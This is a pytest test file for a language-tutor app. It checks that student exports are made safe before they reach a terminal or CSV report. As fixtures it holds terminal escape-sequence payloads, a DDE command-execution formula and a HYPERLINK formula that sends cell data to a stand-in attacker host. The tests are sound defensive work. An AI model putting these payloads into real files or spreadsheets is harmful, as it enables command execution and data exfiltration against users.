"""Hostile exports: escape sequences stay inert, spreadsheet cells are never formulas, and files
with impossible numbers or text are skipped with a reason (reliability F4, F5, F15)."""

from __future__ import annotations

import copy
import csv
import datetime as dt
import io
import json
from pathlib import Path
from typing import Any

import pytest
from textual.app import App
from textual.content import Content
from textual.widgets import DataTable, Static

from kzjp_tutor.commands import report as report_command
from kzjp_tutor.core.deck import Deck
from kzjp_tutor.core.export import ExportReview, ProgressExport, export_csv, load_exports, parse_export
from kzjp_tutor.core.report import (
    CARD_COLUMNS,
    CardRow,
    Figure,
    Report,
    WrongAnswer,
    build_report,
    cards_csv,
)
from kzjp_tutor.ui.screens.instructor import InstructorScreen

from .helpers import DECK_FILE, REPORT_AT, ClassExports, run_command

OSC52 = "\x1b]52;c;SGVsbG8=\x07"
OSC8 = "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\"
CSI_2J = "\x1b[2J"
OSC0 = "\x1b]0;TITLE\x1b\\"
RAW = ("\x1b", "\x07", "\x9b", "\u202e")
"""Bytes that must never reach a terminal from an export."""


def _poison(folder: Path) -> None:
    """Put escape sequences in every student name, wrong answer and a file name (as in F4)."""
    for number, path in enumerate(sorted(folder.glob("*.json"))):
        data = json.loads(path.read_text(encoding="utf-8"))
        data["student"] = f"s{number}{OSC52}\u202eevil"
        for review in data["reviews"]:
            review["answer"] = f"{OSC0}{CSI_2J}{OSC8}wrong\x9b2J\x07"
            review["rating"], review["suggested"] = 1, "again"
        path.write_text(json.dumps(data), encoding="utf-8")
    (folder / f"broken{CSI_2J}.json").write_text("{", encoding="utf-8")


def test_terminal_report_shows_escapes_never_sends_them(class_exports: ClassExports, tmp_path: Path) -> None:
    _poison(class_exports.folder)
    ran = run_command(
        report_command, ["report", str(class_exports.folder), "--deck-file", str(DECK_FILE)], tmp_path / "h"
    )
    assert ran.code == 0
    for raw in RAW:
        assert raw not in ran.out and raw not in ran.err, repr(raw)
    assert "s0\\x1b]52;c;SGVsbG8=\\x07\\u202eevil" in ran.out
    assert "\\x1b]0;TITLE\\x1b\\\\x1b[2J" in ran.out.replace("\n", "")
    assert "broken\\x1b[2J.json: not valid JSON" in ran.err


async def test_instructor_screen_shows_escapes_never_sends_them(
    class_exports: ClassExports, deck: Deck
) -> None:
    """In a Pilot: every cell, the detail panel, the skipped list and the exported SVG screen."""
    _poison(class_exports.folder)
    screen = InstructorScreen(class_exports.folder, decks=[deck], now=REPORT_AT)

    class Host(App[None]):
        def on_mount(self) -> None:
            self.push_screen(screen)

    app = Host()
    async with app.run_test(size=(160, 40)) as pilot:
        await app.workers.wait_for_complete()
        await pilot.pause()
        texts: list[str] = []
        for table in screen.query(DataTable):
            for row in range(table.row_count):
                texts += [c.plain if isinstance(c, Content) else str(c) for c in table.get_row_at(row)]
        for static in screen.query(Static):
            texts.append(str(static.render()))
        svg = app.export_screenshot()
    shown = "\n".join(texts)
    for raw in RAW:
        assert raw not in shown and raw not in svg, repr(raw)
    assert "s0\\x1b]52;c;SGVsbG8=\\x07" in shown  # a student's name, escaped
    assert "\\x1b]0;TITLE" in shown  # a wrong answer, escaped
    assert "broken\\x1b[2J.json" in shown  # a skipped file's name, escaped


def _hostile_report() -> Report:
    """A report whose every text column starts like a formula (a report built from a hand-edited
    export or deck could hold any of these)."""
    fig = Figure(0.5, 1, 1)
    row = CardRow(
        deck_id="=cmd|' /C calc'!A0",
        card_id="@SUM(1)",
        section_id="+1",
        prompt=' =HYPERLINK("http://evil.example")',
        seen=fig,
        first_try_failure=fig,
        recall=fig,
        overrides=fig,
        leeches=0,
        wrong_answers=(WrongAnswer("-2+3", "-2+3", 1, 1),),
    )
    return Report(REPORT_AT, None, 1, 1, [row], [], [], [], [])


def test_report_csv_neutralises_every_text_column() -> None:
    rows = list(csv.DictReader(io.StringIO(cards_csv(_hostile_report()).removeprefix("\ufeff"))))
    text_columns = ("deck", "card", "section", "prompt", "top_wrong_answers")
    assert set(text_columns) <= set(CARD_COLUMNS)
    for column in text_columns:
        assert rows[0][column].startswith("'"), column
    numeric = [c for c in CARD_COLUMNS if c not in text_columns]
    assert all(not rows[0][c].startswith("'") for c in numeric)


def test_report_csv_end_to_end_answer_and_prompt(class_exports: ClassExports, tmp_path: Path) -> None:
    """A wrong answer typed as a formula arrives in the CSV as text."""
    bob = class_exports.folder / "bob.json"
    data = json.loads(bob.read_text(encoding="utf-8"))
    data["reviews"][-1]["answer"] = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    bob.write_text(json.dumps(data), encoding="utf-8")
    out = tmp_path / "cards.csv"
    ran = run_command(
        report_command,
        ["report", str(class_exports.folder), "--deck-file", str(DECK_FILE), "--csv", str(out)],
        tmp_path / "h",
    )
    assert ran.code == 0
    relations = next(
        r for r in csv.DictReader(io.StringIO(out.read_text("utf-8"))) if r["card"] == "relations"
    )
    assert relations["top_wrong_answers"].startswith("'=HYPERLINK(")


def test_export_csv_neutralises_every_text_column(class_exports: ClassExports) -> None:
    export = parse_export((class_exports.folder / "bob.json").read_bytes())
    first = export.reviews[0]
    hostile = ExportReview.model_construct(
        **{**dict(first), "deck": "=1+1", "card": "+cmd", "answer": " @SUM(1)", "suggested": "again"}
    )
    text = export_csv(ProgressExport.model_construct(**{**dict(export), "reviews": [hostile]}))
    row = next(csv.DictReader(io.StringIO(text)))
    for column in ("deck", "card", "answer"):
        assert row[column].startswith("'"), column
    assert row["suggested"] == "again" and not row["card_id"].startswith("'")


def _mutate_cards(data: dict[str, Any], field: str, value: Any) -> None:
    for card in data["cards"]:
        card[field] = value


HOSTILE: dict[str, Any] = {
    "stability-zero": lambda d: _mutate_cards(d, "stability", 0.0),
    "stability-negative": lambda d: _mutate_cards(d, "stability", -5.0),
    "stability-nan": lambda d: _mutate_cards(d, "stability", float("nan")),
    "stability-inf": lambda d: _mutate_cards(d, "stability", float("inf")),
    "difficulty-zero": lambda d: _mutate_cards(d, "difficulty", 0),
    "score-nan": lambda d: d["reviews"][0].update(score=float("nan")),
    "student-surrogate": lambda d: d.update(student="\ud800"),
    "answer-surrogate": lambda d: d["reviews"][0].update(answer="x\udfff"),
    "deck-id-formula": lambda d: d["cards"][0].update(deck="=cmd|' /C calc'!A0"),
    "card-id-escape": lambda d: d["reviews"][0].update(card="c\x1b[2J"),
    "decks-entry-bad": lambda d: d.update(decks=["Bad Deck"]),
    "exam-date-key-bad": lambda d: d.update(deck_exam_dates={"\x1b]0;x": "2026-09-01"}),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_export_is_skipped_with_a_reason(class_exports: ClassExports, deck: Deck, case: str) -> None:
    folder = class_exports.folder
    data = json.loads((folder / "bob.json").read_text(encoding="utf-8"))
    HOSTILE[case](data)
    (folder / "bob.json").write_text(json.dumps(data), encoding="utf-8")  # NaN written as NaN, as Python does
    exports, skipped = load_exports([folder])
    assert [Path(s.file).name for s in skipped] == ["bob.json"]
    assert skipped[0].reason.startswith("damaged export: ")
    assert len(exports) == 2
    build_report(exports, [deck], REPORT_AT)


@pytest.mark.parametrize("where", ["version", "fsrs_card_id", "reps"])
def test_a_5000_digit_number_is_skipped_not_a_crash(class_exports: ClassExports, where: str) -> None:
    """Python refuses to parse ints over 4,300 digits (a ValueError, once exit 70)."""
    path = class_exports.folder / "alice.json"
    text = path.read_text(encoding="utf-8")
    key = f'"{where}": '
    start = text.index(key) + len(key)
    end = start + len(text[start:].split(",", 1)[0].split("\n", 1)[0])
    path.write_text(text[:start] + "9" * 5000 + text[end:], encoding="utf-8")
    exports, skipped = load_exports([class_exports.folder])
    assert [(Path(s.file).name, s.reason[:22]) for s in skipped] == [("alice.json", "not a usable export: E")]
    assert len(exports) == 2


def test_long_version_is_quoted_short(class_exports: ClassExports) -> None:
    path = class_exports.folder / "alice.json"
    data = json.loads(path.read_text(encoding="utf-8"))
    path.write_text(json.dumps({**data, "version": int("7" * 4000)}), encoding="utf-8")
    _exports, skipped = load_exports([path])
    assert "a very long number" in skipped[0].reason and len(skipped[0].reason) < 200


def test_command_on_hostile_numbers_never_shows_impossible_percentages(
    class_exports: ClassExports, tmp_path: Path
) -> None:
    """F15 end to end: stability 0, -5 and NaN once gave exit 70, "108%" and "nan%"."""
    folder = class_exports.folder
    base = json.loads((folder / "alice.json").read_text(encoding="utf-8"))
    for name, value in (("zero", 0.0), ("neg", -5.0), ("nan", float("nan"))):
        data = copy.deepcopy(base)
        data["student"] = name
        data["exported_at"] = (dt.datetime(2026, 9, 2, tzinfo=dt.UTC)).isoformat()
        _mutate_cards(data, "stability", value)
        (folder / f"{name}.json").write_text(json.dumps(data), encoding="utf-8")
    ran = run_command(report_command, ["report", str(folder), "--deck-file", str(DECK_FILE)], tmp_path / "h")
    assert ran.code == 0
    assert ran.err.count("skipped") == 3 and "stability" in ran.err
    assert "nan%" not in ran.out.lower()
    percents = [int(p) for p in __import__("re").findall(r"(\d+)%", ran.out)]
    assert percents and max(percents) <= 100
